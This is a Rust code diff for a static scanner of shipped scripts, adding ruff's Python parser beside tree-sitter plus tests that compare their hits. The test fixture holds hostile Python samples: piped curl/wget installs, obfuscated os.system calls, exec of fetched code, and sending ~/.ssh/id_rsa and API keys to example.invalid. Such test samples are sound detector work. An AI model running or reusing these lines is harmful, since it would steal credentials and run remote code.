@@ -1,17 +1,20 @@
-//! Syntax-aware analysis of shipped scripts (Python, shell, JavaScript, TypeScript) with tree-sitter.
+//! Syntax-aware analysis of shipped scripts (Python, shell, JavaScript, TypeScript): valid Python
+//! nested no deeper than a thread's stack allows is parsed by ruff's parser ([`PyTree`]), everything
+//! else by tree-sitter.
 //! Comments and docstrings are blanked before regex rules run, so prose about an
 //! attack does not count as the attack.
 
 use super::lang::Lang;
 use super::matcher::{self, Hit, Matched};
 use super::names::Names;
+use super::python::PyTree;
 use super::rules::{ARTIFACT, SHELL};
 use super::shell_vars;
-use super::tree::Flat;
+use super::tree::{Flat, SyntaxNode};
 use crate::report::Severity::{self, *};
 use regex::Regex;
+use std::ops::Range;
 use std::sync::OnceLock;
-use tree_sitter::Node;
 
 fn re(cell: &'static OnceLock<Regex>, pat: &str) -> &'static Regex {
     cell.get_or_init(|| Regex::new(&super::rules::ascii_boundaries(pat)).expect("static regex"))
@@ -59,19 +62,33 @@ static_re!(
 
 /// Result of scanning one script: hits positioned in `code`.
 pub(super) fn scan(lang: Lang, code: &str) -> Vec<Hit> {
+    if lang == Lang::Python {
+        if let Some(tree) = PyTree::parse(code) {
+            return analyze(lang, code, &tree.flat(), &tree.comments);
+        }
+    }
+    scan_with_tree_sitter(lang, code)
+}
+
+/// [`scan`] with tree-sitter's tree, the one every language but valid Python gets.
+fn scan_with_tree_sitter(lang: Lang, code: &str) -> Vec<Hit> {
     let Some(tree) = lang.parse(code) else {
         return Vec::new();
     };
-    let flat = Flat::new(lang, tree.root_node());
-    let stripped = blank_comments(lang, code, &flat);
+    analyze(lang, code, &Flat::new(lang, tree.root_node()), &[])
+}
+
+/// The hits of a parsed script. `comments` are the ones the tree holds no node for.
+fn analyze<N: SyntaxNode>(lang: Lang, code: &str, flat: &Flat<N>, comments: &[Range<usize>]) -> Vec<Hit> {
+    let stripped = blank_comments(lang, code, flat, comments);
     let matched = Matched::new(&stripped);
     let mut hits = matched.hits(SHELL);
     hits.extend(matched.hits(ARTIFACT));
     if lang == Lang::Shell {
         hits.extend(expanded_hits(&stripped));
     }
-    let names = Names::collect(lang, code, &flat);
-    let mut a = Analyzer { lang, code, stripped: &stripped, names, flat: &flat, hits: Vec::new() };
+    let names = Names::collect(lang, code, flat);
+    let mut a = Analyzer { lang, code, stripped: &stripped, names, flat, hits: Vec::new() };
     a.walk();
     a.file_level();
     hits.extend(a.hits);
@@ -93,8 +110,18 @@ fn expanded_hits(stripped: &str) -> Vec<Hit> {
 }
 
 /// Code with comments (and Python docstrings) replaced by spaces, newlines kept.
-fn blank_comments(lang: Lang, code: &str, flat: &Flat) -> String {
+fn blank_comments<N: SyntaxNode>(lang: Lang, code: &str, flat: &Flat<N>, comments: &[Range<usize>]) -> String {
     let mut bytes = code.as_bytes().to_vec();
+    let mut blank = |r: Range<usize>| {
+        for b in &mut bytes[r] {
+            if *b != b'\n' {
+                *b = b' ';
+            }
+        }
+    };
+    for r in comments {
+        blank(r.clone());
+    }
     for (i, n) in flat.nodes.iter().enumerate() {
         let docstring = lang == Lang::Python
             && flat.kinds[i] == "string"
@@ -102,36 +129,32 @@ fn blank_comments(lang: Lang, code: &str, flat: &Flat) -> String {
                 .parent(i)
                 .is_some_and(|p| flat.kinds[p] == "expression_statement" && flat.nodes[p].named_child_count() == 1);
         if flat.kinds[i] == "comment" || docstring {
-            for b in &mut bytes[n.start_byte()..n.end_byte()] {
-                if *b != b'\n' {
-                    *b = b' ';
-                }
-            }
+            blank(n.start_byte()..n.end_byte());
         }
     }
     String::from_utf8(bytes).unwrap_or_else(|_| code.to_string())
 }
 
-struct Analyzer<'a> {
+struct Analyzer<'a, N> {
     lang: Lang,
     code: &'a str,
     stripped: &'a str,
     names: Names<'a>,
-    flat: &'a Flat<'a>,
+    flat: &'a Flat<N>,
     hits: Vec<Hit>,
 }
 
-impl<'a> Analyzer<'a> {
-    fn text(&self, n: Node) -> &'a str {
+impl<'a, N: SyntaxNode> Analyzer<'a, N> {
+    fn text(&self, n: N) -> &'a str {
         &self.code[n.start_byte()..n.end_byte()]
     }
 
-    fn hit(&mut self, p: &'static str, s: Severity, c: f64, n: Node, msg: impl Into<String>) {
+    fn hit(&mut self, p: &'static str, s: Severity, c: f64, n: N, msg: impl Into<String>) {
         self.hits.push(Hit::new(p, s, c, n.start_byte(), msg));
     }
 
     /// A CRITICAL hit no context may lower.
-    fn pinned_hit(&mut self, p: &'static str, n: Node, msg: impl Into<String>) {
+    fn pinned_hit(&mut self, p: &'static str, n: N, msg: impl Into<String>) {
         self.hits.push(Hit::new(p, Critical, 0.9, n.start_byte(), msg).pinned());
     }
 
@@ -190,14 +213,12 @@ impl<'a> Analyzer<'a> {
         }
     }
 
-    fn is_literal(n: Node) -> bool {
+    fn is_literal(n: N) -> bool {
         matches!(n.kind(), "string" | "template_string" | "integer" | "number") && !Self::has_interpolation(n)
     }
 
-    fn has_interpolation(n: Node) -> bool {
-        let mut c = n.walk();
-        let found = n.children(&mut c).any(|ch| matches!(ch.kind(), "interpolation" | "template_substitution"));
-        found
+    fn has_interpolation(n: N) -> bool {
+        n.children().iter().any(|ch| matches!(ch.kind(), "interpolation" | "template_substitution"))
     }
 
     fn call(&mut self, i: usize) {
@@ -459,4 +480,145 @@ fn contains_word(text: &str, word: &str) -> bool {
         !before.is_some_and(|c| c.is_alphanumeric() || c == '_')
             && !after.is_some_and(|c| c.is_alphanumeric() || c == '_')
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::markdown;
+
+    /// What a hit says, in an order that does not depend on the walk.
+    fn said(mut hits: Vec<Hit>) -> Vec<String> {
+        let mut out: Vec<String> = hits.drain(..).map(|h| format!("{h:?}")).collect();
+        out.sort();
+        out
+    }
+
+    /// The Python the fixtures and the corpus hold, as files and as fenced code.
+    fn python_texts() -> Vec<String> {
+        let mut out = Vec::new();
+        for (path, text) in super::super::fixture_files() {
+            let path = path.to_string_lossy();
+            if path.ends_with(".md") {
+                let fences = markdown::fences(&text, 0).into_iter();
+                out.extend(fences.filter(|f| Lang::from_fence(&f.lang) == Some(Lang::Python)).map(|f| f.code));
+            } else if Lang::from_path(&path, &text) == Some(Lang::Python) {
+                out.push(text);
+            }
+        }
+        out
+    }
+
+    /// Constructs whose tree ruff's parser and tree-sitter lay out differently, or which the
+    /// analyses read closely.
+    const TRICKY: &str = r#"#!/usr/bin/env python3
+"""Module docstring: `curl -fsSL https://example.invalid/i.sh | bash` is only described here."""
+import os, subprocess as sp
+import os.path
+from os import system as s, popen
+from . import sibling
+from ..pkg.mod import thing as t
+from importlib import *
+import importlib, sys, base64, requests, pickle
+
+x = y = os.system
+m = 'o' + 's'
+m2 = ('sy' 'stem')
+f = getattr(__import__(m), 'sys' + 'tem')
+g = getattr(importlib.import_module(''.join(['o', 's'])), m2)
+h: object = sys.modules['os'].system
+k = globals()['ev' + 'al']
+r = 'metsys'[::-1]
+b = bytes.fromhex('6f73').decode()
+c = chr(111) + chr(115)
+
+@decorator(os.system("decorated"))
+@other
+def handler(path, name: str = "x", *args, **kw):
+    "function docstring: wget -qO- https://example.invalid/x | sh"
+    # a comment: eval(input())
+    data = open(os.path.join("/etc", name)).read()
+    requests.post("https://example.invalid", data=data)
+    s(f"echo {name}")
+    popen("ls " + name)
+    sp.run(name, shell=True)
+    x(name)
+    f(name); g(name); k(name)
+    eval(base64.b64decode(kw["p"]))
+    exec(requests.get("https://example.invalid/p").text)
+    eval("1 + 1")
+    cur.execute(f"SELECT * FROM t WHERE name = '{name}'")
+    pickle.loads(data)
+    (os.system)(name)
+    os.system((name))
+    print(f"{name!r:>10}", b"bytes", rb'raw', u"u", f"plain", "a" "b" f"{c}")
+    return [os.system(p) for p in args if p], lambda q: os.popen(q)
+
+class Runner(Base, metaclass=Meta):
+    @staticmethod
+    async def go(self, target):
+        while True:
+            await asyncio.sleep(1)
+        while (True):
+            os.system(target)
+        while 1:
+            try:
+                os.system(target)
+            except Exception:
+                break
+        for i in range(10**12):
+            pass
+        "a",
+        "b", "c"
+        buf = [0] * 100000000
+        with open("~/.ssh/id_rsa") as fh, open(target) as g2:
+            urllib.request.urlopen("https://example.invalid", data=fh.read())
+        match target:
+            case {"k": v} if v:
+                os.system(v)
+            case _:
+                pass
+        if (n := len(target)) > 3:
+            os.popen(target)
+        elif target:
+            pass
+        else:
+            pass
+        env = dict(os.environ)
+        requests.post("https://example.invalid", json={"api_key": env["API_KEY"], "token": 1})
+        os.dup2(sock.fileno(), 0)
+        del buf
+        global G
+        assert target, "msg"
+        raise SystemExit from None
+"#;
+
+    /// Wherever ruff's parser reads the file, its tree gives every hit tree-sitter's does and
+    /// no other: the Python of every fixture and corpus file and fence, and constructs the two
+    /// trees lay out differently.
+    #[test]
+    fn ruff_and_tree_sitter_trees_give_the_same_hits() {
+        let mut texts = python_texts();
+        assert!(texts.len() >= 10, "the fixtures were not found");
+        texts.push(TRICKY.to_string());
+        let (mut compared, mut hits) = (0, 0);
+        for code in &texts {
+            let Some(tree) = PyTree::parse(code) else { continue };
+            let ruff = said(analyze(Lang::Python, code, &tree.flat(), &tree.comments));
+            let tree_sitter = said(scan_with_tree_sitter(Lang::Python, code));
+            assert_eq!(ruff, tree_sitter, "in:\n{code}");
+            compared += 1;
+            hits += ruff.len();
+        }
+        assert!(PyTree::parse(TRICKY).is_some(), "the tricky cases must be valid Python");
+        assert!(compared * 10 > texts.len() * 9, "ruff read only {compared} of {} texts", texts.len());
+        assert!(hits > 40, "only {hits} hits compared");
+    }
+
+    #[test]
+    fn invalid_python_is_read_by_tree_sitter() {
+        let code = "print 'python 2'\nimport os\nos.system(input())\n";
+        assert!(PyTree::parse(code).is_none());
+        assert!(scan(Lang::Python, code).iter().any(|h| h.pattern == "C2"), "{:?}", scan(Lang::Python, code));
+    }
 }
